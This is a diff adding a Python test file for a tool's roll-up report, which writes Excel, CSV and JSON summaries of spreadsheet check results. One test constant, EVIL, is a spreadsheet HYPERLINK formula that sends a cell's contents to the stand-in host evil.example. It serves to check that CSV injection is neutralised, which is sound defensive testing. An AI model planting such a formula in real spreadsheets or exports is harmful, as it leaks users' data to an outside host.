@@ -1,0 +1,96 @@
+"""The roll-up (汇总.xlsx / .csv / .json) built from per-file summaries."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import zipfile
+from pathlib import Path
+
+from openpyxl import load_workbook
+
+from jixiao.errors import EXIT_CLEAN, EXIT_ERRORS, EXIT_UNCHECKABLE, EXIT_WARNINGS
+from jixiao.findings import Finding, Severity
+from jixiao.report.rollup import Rollup, Summary, csv_safe, summarize
+from jixiao.result import FileResult
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
+
+
+def _rows() -> list[Summary]:
+    return [
+        Summary(file="b/乙.xlsx", unit="乙单位", self_total=90, review_total=88.5, grade="良", warnings=2,
+                explained=1, exit_code=EXIT_WARNINGS, rules=[("WARN-05", "缺少偏差原因", "warning", 2)]),
+        Summary(file="a.xlsx", unit=EVIL, self_total=95, review_total=91, grade="优", errors=1,
+                exit_code=EXIT_ERRORS,
+                rules=[("BDT-3", "三公经费合计", "error", 1), ("WARN-05", "缺少偏差原因", "warning", 3)]),
+        Summary(file="c.xlsx", unit="+丙", review_total=55, grade="差"),
+        Summary(file="坏.xlsx", unit="坏", exit_code=EXIT_UNCHECKABLE, failure_code="CORRUPT",
+                failure_message="工作簿已损坏"),
+    ]
+
+
+def test_csv_safe() -> None:
+    for text in ("=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
+        assert csv_safe(text) == "'" + text
+    assert csv_safe("单位") == "单位"
+    assert csv_safe(-3.5) == -3.5  # numbers are numbers, not formulas
+
+
+def test_rollup_files(tmp_path: Path) -> None:
+    r = Rollup()
+    for s in _rows():
+        r.add(s)
+    paths = r.write(tmp_path)
+    assert [p.name for p in paths] == ["汇总.xlsx", "汇总.csv", "汇总.json"]
+    assert r.exit_code == EXIT_UNCHECKABLE
+    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".~tmp-")]
+
+    raw = (tmp_path / "汇总.csv").read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")  # BOM, so Excel reads UTF-8
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+    assert rows[0] == ["单位", "文件", "自评总分", "复核总分", "等级", "错误数（强制）", "提示数", "信息数",
+                       "已说明提示数", "状态"]
+    assert [row[1] for row in rows[1:]] == ["a.xlsx", "b/乙.xlsx", "c.xlsx", "坏.xlsx"]  # sorted by file
+    assert rows[1][0] == "'" + EVIL  # neutralised
+    assert rows[3][0] == "'+丙"
+    assert rows[1][2:] == ["95", "91", "优", "1", "0", "0", "0", "有错误"]
+    assert rows[2][2:] == ["90", "88.5", "良", "0", "2", "0", "1", "有提示"]
+    assert rows[4][9] == "无法检查：工作簿已损坏"
+
+    wb = load_workbook(tmp_path / "汇总.xlsx")
+    assert wb.sheetnames == ["汇总", "按规则", "统计"]
+    ws = wb["汇总"]
+    assert ws["A2"].value == EVIL and ws["A2"].data_type == "s"  # text, not a live formula
+    sheet_xml = zipfile.ZipFile(tmp_path / "汇总.xlsx").read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in sheet_xml
+    assert [c.value for c in ws[3]] == ["乙单位", "b/乙.xlsx", 90, 88.5, "良", 0, 2, 0, 1, "有提示"]
+    by_rule = [[c.value for c in row] for row in wb["按规则"].iter_rows(min_row=2)]
+    assert by_rule == [["WARN-05", "缺少偏差原因", "提示", 2, 5], ["BDT-3", "三公经费合计", "强制", 1, 1]]
+    assert len(wb["统计"]._charts) == 2
+    stats = {row[0].value: row[1].value for row in wb["统计"].iter_rows(min_row=2, max_row=6)}
+    assert stats == {"优": 1, "良": 1, "中": 0, "差": 1, "未评级": 0}
+
+    data = json.loads((tmp_path / "汇总.json").read_text(encoding="utf-8"))
+    assert data["status_counts"] == {"通过": 1, "有提示": 1, "有错误": 1, "无法检查": 1}
+    assert data["files"][0]["unit"] == EVIL  # JSON keeps the real text
+    assert data["rules"][0] == {"rule": "WARN-05", "title": "缺少偏差原因", "severity": "提示", "units": 2, "hits": 5}
+
+
+def test_summarize_counts_and_rules() -> None:
+    def f(rule: str, sev: Severity, explained: bool = False) -> Finding:
+        return Finding(rule=rule, severity=sev, annex="附件二", sheet="附件二", cell="H14", message="m",
+                       title=f"{rule} 标题", explained=explained)
+
+    res = FileResult(path="x.xlsx", findings=[f("A-1", Severity.ERROR), f("W-1", Severity.WARNING),
+                                              f("W-1", Severity.WARNING, True), f("I-1", Severity.INFO)])
+    s = summarize(res, "x.xlsx")
+    assert (s.errors, s.warnings, s.infos, s.explained, s.exit_code) == (1, 2, 1, 1, EXIT_ERRORS)
+    assert sorted(s.rules) == [("A-1", "A-1 标题", "error", 1), ("I-1", "I-1 标题", "info", 1),
+                               ("W-1", "W-1 标题", "warning", 2)]
+    assert s.unit == "x"  # no model: the file name stands in
+    assert Summary.from_json(json.loads(json.dumps(s.to_json()))) == s
+
+    clean = summarize(FileResult(path="y.xlsx"), "y.xlsx")
+    assert clean.exit_code == EXIT_CLEAN and clean.status == "通过"
